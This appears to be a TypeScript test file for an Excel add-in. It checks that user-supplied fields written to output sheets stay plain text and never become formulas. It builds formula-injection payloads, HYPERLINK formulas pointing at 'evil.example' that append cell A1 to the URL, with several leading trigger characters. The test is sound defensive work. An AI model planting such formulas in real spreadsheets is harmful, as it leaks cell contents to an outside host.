/** What a user, or whoever sent the workbook, wrote is text wherever the add-in writes it: never a formula. */
import { writeBrief } from '../../src/case/output-sheets/brief-sheet';
import { createCaseStore } from '../../src/case/case-store';
import { writeChallenge } from '../../src/case/output-sheets/challenge-sheet';
import { writeChecks } from '../../src/case/output-sheets/checks-sheet';
import { writeFollowThrough } from '../../src/case/output-sheets/follow-through-sheet';
import { writeTradeOffs } from '../../src/case/output-sheets/trade-offs-sheet';
import { excelWorkbook } from '../../src/workbook/excel-workbook';
import { openExcel } from '../support/excel-in-node';
import { MODEL, sampleCase } from './sample-case';

/** Replaces every text that is the user's own; what is one of a list stays. */
function hostile(text: string, begin: string): string {
  return `${begin}HYPERLINK("http://evil.example/"&A1,"${text}")`;
}

/** A formula without the texts in quotes that it holds, in which anything may stand. */
function withoutStrings(formula: string): string {
  return formula.replace(/"(?:[^"]|"")*"/g, '""');
}

it.each(['=', '+', '-', '@', '\t=', "'="])(
  'text that begins with %j stays text on every sheet',
  async (begin) => {
    const excel = await openExcel({ sheets: MODEL });
    try {
      const workbook = excelWorkbook();
      const of = sampleCase();
      const h = (text: string): string => hostile(text, begin);
      const names = new Map(of.alternatives.map(({ name }, i) => [name, i === 0 ? name : h(name)]));
      const store = createCaseStore({ workbook, eventGrace: 0 });
      await store.create({
        ...of,
        decision: {
          ...of.decision,
          decision: h('d'),
          owner: h('o'),
          businessReason: h('r'),
          stakeholders: h('s'),
        },
        alternatives: of.alternatives.map((one) => ({
          ...one,
          name: names.get(one.name)!,
          description: h('what'),
        })),
        drivers: of.drivers.map((one) => ({
          ...one,
          name: h(one.name),
          unit: h('u'),
          source: h('s'),
          owner: h('o'),
          values: Object.fromEntries(
            Object.entries(one.values).map(([name, value]) => [names.get(name)!, value]),
          ),
        })),
        metrics: of.metrics.map((one) => ({ ...one, name: h(one.name), unit: h('u'), owner: h('o') })),
        effects: of.effects.map((one) => ({
          ...one,
          party: h('p'),
          alternative: names.get(one.alternative)!,
        })),
        followThrough: of.followThrough.map((one) => ({ ...one, metric: h('Profit'), action: h('a') })),
      });
      await store.evaluate();
      const { case: saved, freshness } = store.getState();
      await writeTradeOffs(workbook, saved!, freshness);
      await writeBrief(workbook, { freshness });
      await writeFollowThrough(workbook);
      await writeChecks(workbook);
      await writeChallenge(workbook, { today: '2026-03-01' });
      await store.load();
      expect(store.getState().case!.decision.decision.trim()).toBe(h('d').trim());
      expect(store.getState().case!.results).toHaveLength(6);
      let texts = 0;
      for (const { id } of excel.grid.sheets()) {
        const used = excel.grid.usedArea(id, true);
        if (!used) continue;
        const area = { sheet: id, ...used };
        for (const formula of excel.grid.formulas(area).flat())
          expect(withoutStrings(formula ?? '')).not.toMatch(/HYPERLINK\s*\(|evil\./i);
        texts += excel.grid
          .values(area)
          .flat()
          .filter((value) => String(value).includes('evil')).length;
      }
      expect(texts).toBeGreaterThan(25);
    } finally {
      await excel.close();
    }
  },
);
